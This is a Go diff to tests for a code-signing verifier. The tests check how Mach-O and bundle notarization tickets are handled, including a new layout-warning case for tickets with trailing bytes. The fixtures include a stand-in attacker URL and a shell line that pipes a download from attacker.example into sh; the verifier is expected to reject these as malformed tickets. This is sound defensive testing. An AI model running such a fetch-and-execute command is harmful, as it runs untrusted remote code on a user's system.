@@ -3,6 +3,7 @@ package codesign
 import (
 	"bytes"
 	"encoding/hex"
+	"strings"
 	"testing"
 	"testing/fstest"
 
@@ -70,9 +71,8 @@ func TestMachOTicketSlot(t *testing.T) {
 func TestMachOTicketSlotGarbage(t *testing.T) {
 	p := machofile.NewPKI()
 	for name, data := range map[string][]byte{
-		"payload":        payloadBlob,
-		"wrapped junk":   ticketfile.BlobWrapper([]byte("https://attacker.example/stage2")),
-		"trailing bytes": ticketfile.BlobWrapper(append(ticketfile.Ticket(placeholderCDHash), "stage2"...)),
+		"payload":      payloadBlob,
+		"wrapped junk": ticketfile.BlobWrapper([]byte("https://attacker.example/stage2")),
 	} {
 		t.Run(name, func(t *testing.T) {
 			b, _, err := machofile.Sign(machofile.Build(machofile.Spec{}), withExtra(p.DeveloperIDSpec("x"), machofile.ExtraBlob{Slot: 0x10002, Data: data}))
@@ -87,6 +87,26 @@ func TestMachOTicketSlotGarbage(t *testing.T) {
 				t.Errorf("notarization %+v", n)
 			}
 		})
+	}
+}
+
+// TestMachOTicketSlotLayout: a wrapped ticket with bytes after the content
+// its header declares is a ticket (not an unbound blob) whose layout is
+// reported as a warning.
+func TestMachOTicketSlotLayout(t *testing.T) {
+	p := machofile.NewPKI()
+	data := ticketfile.BlobWrapper(append(ticketfile.Ticket(placeholderCDHash), "stage2"...))
+	b, _, err := machofile.Sign(machofile.Build(machofile.Spec{}), withExtra(p.DeveloperIDSpec("x"), machofile.ExtraBlob{Slot: 0x10002, Data: data}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r := verifyBytes(t, b, Options{Trust: testTrust(t), Time: checkTime})
+	rs := ruleSet(r)
+	if rs[RuleNotarizationTicketLayout] != signing.SeverityWarning || rs[RuleUnboundBlob] != 0 || r.Signatures[0].Status != signing.StatusValid {
+		t.Errorf("%s %v", r.Signatures[0].Status, rs)
+	}
+	if n := r.Signatures[0].Notarization; n == nil || n.Status != signing.NotarizationStapledUnverified || !strings.Contains(n.Detail, "6 bytes follow") {
+		t.Errorf("notarization %+v", n)
 	}
 }
 
@@ -144,7 +164,7 @@ func TestBundleTicket(t *testing.T) {
 		{"other code", ticketfile.Ticket(placeholderCDHash), signing.NotarizationStapledUnverified, false, RuleNotarizationTicketMismatch, signing.SeverityWarning},
 		{"garbage", []byte("#!/bin/sh\ncurl https://attacker.example | sh\n"), signing.NotarizationMalformed, false, RuleNotarizationTicketMalformed, signing.SeverityError},
 		{"truncated", good[:len(good)/2], signing.NotarizationMalformed, false, RuleNotarizationTicketMalformed, signing.SeverityError},
-		{"trailing bytes", append(bytes.Clone(good), "stage2"...), signing.NotarizationMalformed, false, RuleNotarizationTicketMalformed, signing.SeverityError},
+		{"trailing bytes", append(bytes.Clone(good), "stage2"...), signing.NotarizationStapledUnverified, true, RuleNotarizationTicketLayout, signing.SeverityWarning},
 		{"not stapled", nil, signing.NotarizationNotStapled, false, "", 0},
 	} {
 		t.Run(c.name, func(t *testing.T) {
